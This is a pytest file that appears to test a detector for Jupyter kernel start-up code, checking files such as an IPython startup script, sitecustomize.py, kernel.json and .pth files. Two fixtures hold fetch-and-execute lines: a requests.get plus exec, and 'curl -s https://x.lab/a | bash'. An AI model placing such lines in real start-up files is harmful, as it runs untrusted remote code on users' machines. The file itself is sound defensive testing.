from __future__ import annotations

from collections.abc import Callable

import pytest

Ask = Callable[..., tuple[str, str]]
STARTUP = ".ipython/profile_default/startup/00.py"
NONE = ("not-applicable", "Does not apply: the project brings no start-up code.")


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        (STARTUP, "x = 1", ("warn", f"1 file of the project runs in a kernel before the first cell: {STARTUP}.")),
        (STARTUP, "", NONE),
        (
            STARTUP,
            "import requests\ncode = requests.get('https://x.lab/a.py').text\nexec(code)",
            ("fail", f"{STARTUP} fetches code and runs it before the first cell."),
        ),
        (
            "sitecustomize.py",
            "import subprocess\nsubprocess.run('curl -s https://x.lab/a | bash', shell=True)",
            ("fail", "sitecustomize.py fetches code and runs it before the first cell."),
        ),
        ("kernel.json", '{"argv": ["python", "-m", "ipykernel_launcher"]}', NONE),
        ("kernel.json", "[", NONE),
        ("lib/own.pth", "../src\n", NONE),
        ("src/startup/main.py", "x = 1", NONE),
        (".ipython/profile_default/ipython_config.py", "c = get_config()\nc.TerminalInteractiveShell.x = 1", NONE),
    ],
)
def test_files(ask_project: Ask, name: str, text: str, said: tuple[str, str]) -> None:
    assert ask_project("kernel_startup", {name: text}) == said


def test_what_cannot_be_looked_at_is_no_pass(ask_project: Ask) -> None:
    from jupyter_mlsec.probes._ground.observations import NotEvidenceError

    with pytest.raises(NotEvidenceError, match="too many files"):
        ask_project("kernel_startup", {}, files=None)
